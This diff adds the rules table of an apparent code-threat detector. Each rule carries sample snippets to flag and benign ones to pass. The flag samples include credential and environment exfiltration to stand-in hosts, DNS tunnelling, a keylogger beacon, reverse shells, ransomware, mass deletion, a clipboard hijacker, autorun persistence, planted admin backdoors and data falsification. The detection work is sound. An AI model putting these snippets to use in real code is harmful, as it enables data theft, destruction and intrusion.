@@ -1,0 +1,223 @@
+/**
+ * The code threats that are combinations of frame conditions (code-frame.ts): a new threat of this kind is a row,
+ * not a function. Each row names the operations it needs, the objects (one of, and all of), the destinations and
+ * carries inputs it must flag and look-alikes it must pass (test/engine-rules.test.ts runs them).
+ */
+import type { Primitive } from '../types.js';
+import type { CodeDest, CodeFrame, CodeObject, CodeOp } from './code-frame.js';
+
+export interface CodeRow {
+  readonly id: string;
+  readonly name: string;
+  readonly primitive: Primitive;
+  readonly score: number;
+  /** Every op listed must be present. */
+  readonly ops: readonly CodeOp[];
+  /** One of these objects must be present. */
+  readonly objects: readonly CodeObject[];
+  /** Every one of these objects must be present too. */
+  readonly also?: readonly CodeObject[];
+  /** One of these destinations must be present (empty: any). */
+  readonly dests: readonly CodeDest[];
+  readonly identity?: boolean;
+  readonly keywords: readonly string[];
+  readonly examples: { readonly flag: readonly string[]; readonly pass: readonly string[] };
+}
+
+const SOCKET_KEYS = ['socket', 'connect', 'tcp', 'dial', 'listen', 'bind', 'fsockopen', '/dev/udp'];
+const CONCEAL_KEYS = ['quietly', 'secretly', 'covertly', 'without telling', 'tell', 'notice', 'radar', 'without them', 'heimlich', 'unbemerkt', 'en douce', 'en secret', 'escondidas', 'en secreto', 'sin que', 'sem que', 'nascosto', 'senza che', 'stiekem', '悄悄', '偷偷', '秘密に', 'こっそり', 'незаметно', 'втихую', 'тайно'];
+
+/** The combination rows. */
+export const CODE_ROWS: readonly CodeRow[] = [
+  {
+    id: 'G23', name: 'Sensitive data read and sent to an outside host', primitive: 'EXFILTRATION', score: 8,
+    ops: ['send'], objects: ['secret', 'personal', 'keystrokes', 'screen'], dests: ['external', 'capture'],
+    keywords: ['http', 'sendbeacon', 'smtplib', 'ftplib', 'socket'],
+    examples: {
+      flag: [
+        'rows = sqlite3.connect("users.db").execute("select * from users").fetchall()\nrequests.post("http://backup-cn.xyz/u", json=rows)',
+        "const keys=[];document.addEventListener('keydown',e=>{keys.push(e.key);navigator.sendBeacon('https://cdn-metrics.site/k',keys.join(''))})",
+        'tok = open(os.path.expanduser("~/.npmrc")).read()\nurllib.request.urlopen("https://npm-stats.top/c", data=tok.encode())',
+        "const c = fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'));\nhttps.request({ hostname: 'stats-cdn.io', method: 'POST' }).end(c);",
+        "require('https').get('https://x1.oast.fun/?e=' + Buffer.from(JSON.stringify(process.env)).toString('base64'));",
+      ],
+      pass: [
+        'rows = db.execute("select * from users where id = ?", (uid,)).fetchone()\nreturn jsonify(rows)',
+        'requests.post("http://localhost:9200/logs", json=event)',
+        "input.addEventListener('keydown', e => { if (e.key === 'Enter') fetch('/api/search?q=' + input.value) })",
+      ],
+    },
+  },
+  {
+    id: 'G43', name: 'Browser tokens, cookies or storage leaked in a pixel or beacon URL', primitive: 'EXFILTRATION', score: 7,
+    ops: ['beacon'], objects: ['browserStore', 'secret'], dests: ['external', 'capture'],
+    keywords: ['image', '.src', 'sendbeacon', 'createelement'],
+    examples: {
+      flag: ["const t = localStorage.getItem('session');\nnew Image().src = 'https://px-metrics.example.net/p.gif?s=' + t;"],
+      pass: ["const theme = localStorage.getItem('theme');\ndocument.body.className = theme;\nlogo.src = 'https://cdn.example.net/logo.png';", "fetch('/api/me', { headers: { Authorization: 'Bearer ' + localStorage.getItem('token') } })"],
+    },
+  },
+  {
+    id: 'G24', name: 'Host fingerprint beaconed to a capture, paste or chat-webhook service', primitive: 'EXFILTRATION', score: 5,
+    ops: ['send'], objects: ['fingerprint'], dests: ['capture'],
+    keywords: ['gethostname', 'getuser', 'platform.node', 'os.uname', 'userinfo', 'hostname()', 'whoami', 'getlogin'],
+    examples: {
+      flag: ['import socket, getpass, requests\nrequests.get("https://abc.oastify.com/?h=" + socket.gethostname() + "&u=" + getpass.getuser())'],
+      pass: ['print(socket.gethostname())', 'requests.post(METRICS_URL, json={"host": socket.gethostname()})'],
+    },
+  },
+  {
+    id: 'G25', name: 'Data, backup or system directories deleted by code', primitive: 'DESTRUCTION', score: 8,
+    ops: ['destroyTree'], objects: ['dataRoot'], dests: [],
+    keywords: ['rmtree', 'rimraf', 'rm -rf', 'rm -fr', 'rm_rf', 'remove_dir', 'removeall', 'recursive', '-recurse', 'rd /s', 'directory.delete', 'del /f', 'rmdir /s'],
+    examples: {
+      flag: [
+        'import shutil\nfor d in ["/var/lib/postgresql", "/srv/backups", "/mnt/snapshots"]:\n    shutil.rmtree(d, ignore_errors=True)',
+        'os.system("rm -rf /data/* /backup/*")',
+        "fs.rmSync('/var/www', { recursive: true, force: true })",
+      ],
+      pass: ['shutil.rmtree(tmpdir)', 'os.remove(os.path.join(cache_dir, name))', "fs.rmSync('./dist', { recursive: true, force: true })"],
+    },
+  },
+  {
+    id: 'G26', name: 'Files encrypted across the tree and the originals deleted (ransomware)', primitive: 'DESTRUCTION', score: 9,
+    ops: ['encrypt', 'walk', 'destroy'], objects: [], dests: [],
+    keywords: ['encrypt', 'fernet', 'aes.new', 'createcipheriv', 'cryptostream', 'chacha20', 'newcipher', 'newgcm', 'aesgcm'],
+    examples: {
+      flag: [
+        'for root, _, files in os.walk(os.path.expanduser("~")):\n    for f in files:\n        p = os.path.join(root, f)\n        open(p + ".locked", "wb").write(Fernet(key).encrypt(open(p, "rb").read()))\n        os.remove(p)',
+        'filepath.Walk(dir, func(p string, i os.FileInfo, e error) error {\n\tb, _ := aes.NewCipher(k)\n\tg, _ := cipher.NewGCM(b)\n\tos.WriteFile(p+".x", g.Seal(n, n, read(p), nil), 0600)\n\treturn os.Remove(p)\n})',
+      ],
+      pass: ['token = Fernet(key).encrypt(secret.encode())', 'for f in glob.glob("*.txt"):\n    data = open(f).read()\n    print(len(data))'],
+    },
+  },
+  {
+    id: 'G27', name: 'Privilege granted to an identity named in the code (planted backdoor)', primitive: 'ESCALATION', score: 8,
+    ops: ['grant'], objects: ['privilege'], dests: [], identity: true,
+    keywords: ['is_superuser', 'is_staff', 'is_admin', 'isadmin', 'role', 'setuid', 'grant all', 'add_role', 'groups.add', 'permissions', 'bypass_auth', 'skip_auth'],
+    examples: {
+      flag: ['if user.email.endswith("@contractor-temp.io"):\n    user.is_superuser = True\n    user.save()', "if (req.body.username === 'svc_maint') { user.role = 'admin'; }"],
+      pass: ['if form.cleaned_data["make_admin"] and request.user.is_superuser:\n    target.is_staff = True', "user.role = 'viewer'"],
+    },
+  },
+  {
+    id: 'G28', name: 'Shell wired to a network socket in code (reverse or bind shell, any language)', primitive: 'ESCALATION', score: 10,
+    ops: ['socket'], objects: ['shellProc'], also: ['wiring'], dests: [],
+    keywords: SOCKET_KEYS,
+    examples: {
+      flag: [
+        'let st = TcpStream::connect("192.0.2.5:9001").unwrap();\nlet fd = st.as_raw_fd();\nCommand::new("/bin/sh").stdin(unsafe { Stdio::from_raw_fd(fd) }).spawn();',
+        'Socket.connect(host, 9001).then((sock) { sock.listen((d) { Process.start("cmd.exe", []).then((p) { p.stdout.transform(utf8.decoder).listen(sock.write); }); }); });',
+        '$c = New-Object System.Net.Sockets.TCPClient(\'192.0.2.7\', 8443); $s = $c.GetStream(); while (($n = $s.Read($b, 0, $b.Length)) -ne 0) { $o = iex ([text.encoding]::ASCII.GetString($b, 0, $n)) }',
+      ],
+      pass: [
+        'srv = socket.socket()\nsrv.bind(("127.0.0.1", 9000)); srv.listen()\nc, _ = srv.accept()\nc.sendall(c.recv(1024))',
+        'client.connect("build-01.internal", username="ci")\n_, out, _ = client.exec_command("uptime")\nprint(out.read())',
+      ],
+    },
+  },
+  {
+    id: 'G29', name: 'Data smuggled out in DNS lookups of encoded host names', primitive: 'EXFILTRATION', score: 8,
+    ops: ['dns', 'encode'], objects: ['secret', 'personal', 'fingerprint', 'keystrokes'], dests: [],
+    keywords: ['gethostbyname', 'getaddrinfo', 'dns.', 'resolver', 'nslookup', 'resolve-dnsname', 'lookuphost', 'lookupip', 'getbyname', 'gethostentry', 'getaddresses'],
+    examples: {
+      flag: [
+        "d = binascii.hexlify(open('/etc/passwd','rb').read()).decode()\nfor i in range(0, len(d), 50):\n    socket.gethostbyname(d[i:i+50] + '.t.example-dns.net')",
+        "const h = Buffer.from(JSON.stringify(process.env)).toString('hex');\nfor (const c of h.match(/.{1,60}/g)) dns.resolve(`${c}.x.example-dns.net`, () => {});",
+      ],
+      pass: ['def healthy(host):\n    try:\n        socket.gethostbyname(host)\n        return True\n    except OSError:\n        return False', "ip = socket.gethostbyname(cfg['db_host'])\nkey = base64.b64encode(os.urandom(16))"],
+    },
+  },
+  {
+    id: 'G30', name: 'Clipboard hijacker: copied cryptocurrency addresses replaced', primitive: 'MANIPULATION', score: 8,
+    ops: ['clipWrite'], objects: ['clipboard'], also: ['wallet'], dests: [],
+    keywords: ['clipboard', 'pyperclip', 'xclip', 'pbcopy'],
+    examples: {
+      flag: ["MINE = 'bc1qexampleexampleexample'\nwhile True:\n    t = pyperclip.paste()\n    if re.match(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$', t):\n        pyperclip.copy(MINE)"],
+      pass: ["def copy_address(wallet):\n    pyperclip.copy(wallet.address)\n    print('copied')", "text = pyperclip.paste()\nprint(len(text))"],
+    },
+  },
+  {
+    id: 'G31', name: 'Code plants a hidden or self-copying program in an autorun location', primitive: 'PERSISTENCE', score: 8,
+    ops: ['persist'], objects: ['autorun'], also: ['stealthRun'], dests: [],
+    keywords: ['currentversion', 'launchagents', 'launchdaemons', 'autostart', 'startup', 'cron', 'reboot', 'systemd', 'rc.local', 'authorized_keys', 'ld.so.preload', 'winlogon', 'image file execution', 'schtasks', 'scheduledtask', 'launchctl'],
+    examples: {
+      flag: [
+        "k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(k, 'Helper', 0, winreg.REG_SZ, sys.executable + ' ' + __file__)",
+        "p = os.path.expanduser('~/Library/LaunchAgents/com.apple.sync.plist')\nwith open(p, 'wb') as f:\n    plistlib.dump({'Label': 'com.apple.sync', 'ProgramArguments': [os.path.expanduser('~/.local/bin/s')], 'RunAtLoad': True}, f)",
+      ],
+      pass: [
+        "key = winreg.OpenKey(winreg.HKEY_LOCAL_MACHINE, r'SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion')\nbuild, _ = winreg.QueryValueEx(key, 'CurrentBuild')",
+        "with open('/etc/systemd/system/api.service', 'w') as f:\n    f.write('[Service]\\nExecStart=/usr/bin/node /srv/api/server.js\\n')",
+      ],
+    },
+  },
+  {
+    id: 'G32', name: "Files deleted or overwritten across a whole home, root or documents tree", primitive: 'DESTRUCTION', score: 8,
+    ops: ['walk', 'destroy'], objects: ['treeRoot'], dests: [],
+    keywords: ['rglob', 'walk', 'glob', 'iterdir', 'listdir', 'readdir', 'scandir', 'get-childitem', 'getfiles'],
+    examples: {
+      flag: ["for f in Path.home().rglob('*'):\n    if f.is_file():\n        f.unlink()", 'for root, _, files in os.walk("/"):\n    for n in files:\n        os.remove(os.path.join(root, n))'],
+      pass: ["for f in Path('build').rglob('*.pyc'):\n    f.unlink()", "for f in Path.home().rglob('*.md'):\n    print(f)"],
+    },
+  },
+  {
+    id: 'G33', name: "User documents collected across the home tree and uploaded", primitive: 'EXFILTRATION', score: 8,
+    ops: ['walk', 'send'], objects: ['userDocs'], also: ['treeRoot'], dests: ['external', 'capture'],
+    keywords: ['documents', 'desktop', '.pdf', '.docx', '.xlsx', '.kdbx', '.pst', 'onedrive', 'dropbox'],
+    examples: {
+      flag: ["for r, _, fs in os.walk(os.path.expanduser('~/Documents')):\n    for n in fs:\n        requests.post('http://203.0.113.4/u', files={'f': open(os.path.join(r, n), 'rb')})"],
+      pass: ["for r, _, fs in os.walk('invoices'):\n    for n in fs:\n        requests.post('https://api.ocr.example.net/v1', files={'f': open(os.path.join(r, n), 'rb')})"],
+    },
+  },
+  {
+    id: 'G34', name: 'Recorded figures changed so they look other than they are (the comment says so)', primitive: 'MANIPULATION', score: 7,
+    ops: ['alter'], objects: ['falsify'], dests: [],
+    keywords: ['look', 'relabel', 'pass', 'regulator', 'fudge', 'cook the', 'massage', 'pad the', 'inflate', 'falsif', 'fabricat', 'doctor', 'fake', 'hide the loss', 'hide losses', 'audit', 'schön', 'frisier', 'maquill', 'maquiar', 'gonfl', 'truccar', 'ritocc', '美化', '虚报', '造假', '粉饰', '改ざん', 'приукрас', 'поддел', 'подкрут', 'подправ'],
+    examples: {
+      flag: ["df.loc[df['region'] == 'APAC', 'bookings'] *= 1.2  # make Q2 look better for the investor deck", "# Zahlen schönen vor dem Audit\nresult['churn'] = result['churn'] * 0.5"],
+      pass: ["# make the chart look better on mobile\nfig.update_layout(margin=dict(l=10, r=10))", "df['revenue'] *= fx_rate  # convert to EUR"],
+    },
+  },
+  {
+    id: 'G35', name: 'Data sent out on purpose without anyone noticing (the comment says so)', primitive: 'EXFILTRATION', score: 7,
+    ops: ['send'], objects: ['conceal'], dests: [],
+    keywords: CONCEAL_KEYS,
+    examples: {
+      flag: ["# quietly copy the customer list to my own server\nrequests.post(url, json=rows)"],
+      pass: ["# retry quietly on timeouts\nfor _ in range(3):\n    r = requests.get(url, timeout=5)", "requests.post(url, json=rows)  # nightly sync"],
+    },
+  },
+  {
+    id: 'G36', name: 'Data deleted on purpose without anyone noticing (the comment says so)', primitive: 'DESTRUCTION', score: 7,
+    ops: ['destroy'], objects: ['conceal'], dests: [],
+    keywords: CONCEAL_KEYS,
+    examples: {
+      flag: ["# remove the complaint records secretly before the review\nos.remove(path)"],
+      pass: ["# remove the lock file\nos.remove(lock_path)"],
+    },
+  },
+  {
+    id: 'G37', name: 'Privilege granted on purpose without anyone noticing (the comment says so)', primitive: 'ESCALATION', score: 7,
+    ops: ['grant'], objects: ['conceal'], dests: [],
+    keywords: CONCEAL_KEYS,
+    examples: {
+      flag: ["# quietly make my own account an admin\nuser.is_admin = True"],
+      pass: ["if request.user.has_perm('grant_admin'):\n    target.is_admin = True"],
+    },
+  },
+];
+
+/** Does the frame satisfy the row? Returns the finding's detail, or ''. */
+export function rowDetail(f: CodeFrame, row: CodeRow): string {
+  for (const op of row.ops) if (!f.ops.has(op)) return '';
+  let object = '';
+  for (const o of row.objects) { const w = f.objects.get(o); if (w !== undefined) { object = `${o} (${w.trim()})`; break; } }
+  if (row.objects.length > 0 && object === '') return '';
+  for (const o of row.also ?? []) if (!f.objects.has(o)) return '';
+  let dest = '';
+  for (const d of row.dests) { const w = f.dests.get(d); if (w !== undefined) { dest = w; break; } }
+  if (row.dests.length > 0 && dest === '') return '';
+  if (row.identity === true && !f.grantOnIdentity) return '';
+  return `${row.ops.join(' + ')}${object ? ` of ${object}` : ''}${dest ? ` to ${dest}` : ''}`;
+}
